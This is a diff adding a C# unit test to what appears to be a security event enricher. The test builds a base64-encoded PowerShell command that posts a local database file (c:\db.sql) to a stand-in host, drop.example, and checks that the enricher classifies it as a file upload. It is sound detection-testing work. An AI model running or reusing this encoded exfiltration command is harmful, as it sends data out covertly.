@@ -129,6 +129,18 @@ public class EventEnricherTests
     }
 
     [Fact]
+    public void Enrich_EncodedPowerShell_IsReadAndNotStored()
+    {
+        var script = "iwr -Method Post -InFile c:\\db.sql https://drop.example/in";
+        var line = "powershell -nop -enc " + Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script));
+        var e = new SecurityEvent { Kind = EventKind.ProcessStart, Process = "powershell.exe", CommandLine = line };
+
+        Enricher.Enrich(e);
+
+        Assert.Equal(("powershell", "upload-file", "drop.example", line), (e.Tool, e.Verb, e.Domain, e.CommandLine));
+    }
+
+    [Fact]
     public void Enrich_Archive_IsNoTransferTool()
     {
         var e = new SecurityEvent { Kind = EventKind.ProcessStart, Process = "7z.exe", CommandLine = "7z a -pGeheim x.7z c:\\d", FilePath = "C:\\D\\Backup.TAR.GZ" };
